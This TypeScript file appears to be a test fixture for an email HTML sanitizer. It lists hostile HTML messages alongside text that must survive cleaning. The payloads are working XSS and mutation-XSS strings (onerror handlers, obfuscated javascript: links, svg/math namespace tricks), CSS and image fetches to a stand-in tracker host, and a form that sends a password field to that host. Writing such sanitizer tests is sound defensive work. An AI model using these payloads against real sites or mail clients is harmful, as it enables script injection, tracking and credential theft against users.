/** What mail has tried, or may try: each is shown as the content of one message in Drafts. `kept` must still be read. */
export interface HostileMail {
  readonly danger: string;
  readonly html: string;
  readonly kept: string;
}

const tracker = 'http://tracker.example/x.png';

export const hostileMails: readonly HostileMail[] = [
  { danger: 'a script', html: '<p>kept</p><script>parent.owned = 1</script>', kept: 'kept' },
  { danger: 'a handler on a picture', html: '<p>kept</p><img src=x onerror="parent.owned = 1">', kept: 'kept' },
  { danger: 'a handler on a body', html: '<body onload="parent.owned = 1"><p>kept</p></body>', kept: 'kept' },
  { danger: 'a script behind a link', html: '<a href="javascript:parent.owned=1">kept</a>', kept: 'kept' },
  {
    danger: 'a script behind a link with odd letters',
    html: '<a href=" &#14; java&#10;script:parent.owned=1">kept</a>',
    kept: 'kept',
  },
  { danger: 'a page behind a link', html: '<a href="data:text/html,<script>1</script>">kept</a>', kept: 'kept' },
  { danger: 'a drawing that runs', html: '<p>kept</p><svg onload="parent.owned=1"><script>1</script></svg>', kept: 'kept' },
  {
    danger: 'a style sheet that fetches',
    html: `<style>@import "${tracker}"; p { background: url(${tracker}) }</style><p>kept</p>`,
    kept: 'kept',
  },
  { danger: 'a style that fetches', html: `<p style="background-image: url('${tracker}')">kept</p>`, kept: 'kept' },
  { danger: 'a style that fetches in disguise', html: `<p style="background: u\\72l(${tracker})">kept</p>`, kept: 'kept' },
  { danger: 'a style that fetches around a comment', html: `<p style="background: ur/**/l(${tracker})">kept</p>`, kept: 'kept' },
  { danger: 'a set of pictures', html: `<p>kept</p><img srcset="${tracker} 1x" src="${tracker}">`, kept: 'kept' },
  { danger: 'a picture without a scheme', html: '<p>kept</p><img src="//tracker.example/x.png">', kept: 'kept' },
  {
    danger: 'a background',
    html: `<table background="${tracker}"><tr><td background="${tracker}">kept</td></tr></table>`,
    kept: 'kept',
  },
  {
    danger: 'a film and its poster',
    html: `<p>kept</p><video poster="${tracker}" src="${tracker}" autoplay></video><audio src="${tracker}"></audio>`,
    kept: 'kept',
  },
  {
    danger: 'a link that loads ahead',
    html: `<link rel="preload" href="${tracker}"><link rel="dns-prefetch" href="//tracker.example"><p>kept</p>`,
    kept: 'kept',
  },
  { danger: 'a page that leads away', html: `<meta http-equiv="refresh" content="0; url=${tracker}"><p>kept</p>`, kept: 'kept' },
  { danger: 'a base for all addresses', html: '<base href="http://tracker.example/"><img src="x.png"><p>kept</p>', kept: 'kept' },
  {
    danger: 'a form',
    html: '<form action="http://tracker.example/"><p>kept</p><input name=password><button>Go</button></form>',
    kept: 'kept',
  },
  {
    danger: 'a frame in the frame',
    html: '<p>kept</p><iframe srcdoc="<script>1</script>"></iframe><object data="x"></object><embed src="x">',
    kept: 'kept',
  },
  { danger: 'a cover over everything', html: '<div style="position: fixed; inset: 0">over</div><p>kept</p>', kept: 'kept' },
  { danger: 'names that hide ours', html: '<p id="root" name="strata">kept</p><img name="getElementById">', kept: 'kept' },
  {
    danger: 'markup that changes when it is read twice',
    html: '<p>kept</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.owned=1&gt;">',
    kept: 'kept',
  },
  {
    danger: 'markup inside a title',
    html: '<p>kept</p><svg></p><style><a id="</style><img src=1 onerror=parent.owned=1>">',
    kept: 'kept',
  },
  {
    danger: 'a template',
    html: '<p>kept</p><template><img src=x onerror=parent.owned=1></template><noscript><p title="</noscript><img src=x onerror=1>"></noscript>',
    kept: 'kept',
  },
  { danger: 'thousands of layers', html: `${'<div>'.repeat(3000)}<p>kept</p>`, kept: 'kept' },
  {
    danger: 'a harmless picture of its own',
    html: '<p>kept</p><img alt="dot" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    kept: 'kept',
  },
  { danger: 'a drawing as a picture', html: '<p>kept</p><img src="data:image/svg+xml;base64,PHN2Zy8+">', kept: 'kept' },
];
